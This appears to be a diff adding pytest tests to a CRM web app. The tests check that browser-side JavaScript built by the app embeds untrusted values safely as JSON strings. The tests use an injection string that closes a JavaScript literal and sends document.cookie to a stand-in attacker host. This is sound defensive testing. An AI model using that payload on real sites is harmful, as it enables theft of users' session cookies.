@@ -1,0 +1,44 @@
+"""JavaScript the app asks the browser to run (rx.call_script) carries values only as JSON literals: a value
+that came from a browser event or the database can never close a string and run code of its own."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from pkcrm_app.ui.components import forms
+from pkcrm_app.ui.states import reply, whatsapp_settings
+
+HOSTILE = "x'); fetch('https://evil.example/?c=' + document.cookie); ('\"</script>\u2028"
+UI = Path(__file__).resolve().parents[2] / "pkcrm_app" / "ui"
+
+BUILDERS: dict[str, Callable[[str], str]] = {
+    "whatsapp settings save": whatsapp_settings.save_script,
+    "reply file upload": lambda value: reply.upload_script(value),  # type: ignore[arg-type]
+    "code post (url)": lambda value: forms.post_code_script(value, "code"),
+    "code post (input)": lambda value: forms.post_code_script("/auth/step-up", value),
+}
+
+
+@pytest.mark.parametrize("name", sorted(BUILDERS))
+def test_a_hostile_value_stays_inside_one_json_string(name: str) -> None:
+    script = BUILDERS[name](HOSTILE)
+    assert json.dumps(HOSTILE) in script or json.dumps(str(HOSTILE)) in script
+    assert "evil.example" not in script.replace(json.dumps(HOSTILE), "")
+
+
+def test_the_save_event_accepts_only_this_pages_form_ids() -> None:
+    assert whatsapp_settings.FORM_ID.fullmatch("wa-number-new") and whatsapp_settings.FORM_ID.fullmatch("wa-number-7")
+    assert not whatsapp_settings.FORM_ID.fullmatch(HOSTILE)
+
+
+def test_no_ui_code_pastes_a_value_into_a_quoted_javascript_string() -> None:
+    """The shape of the bug: a Python string closing a JavaScript '...' literal around a concatenated value."""
+    pasted = re.compile(r"""'"\s*\+\s*[A-Za-z_(]|[A-Za-z_)\]]\s*\+\s*"'""")
+    found = [f"{p.relative_to(UI)}:{n}" for p in UI.rglob("*.py")
+             for n, line in enumerate(p.read_text("utf-8").splitlines(), 1) if pasted.search(line)]
+    assert found == []
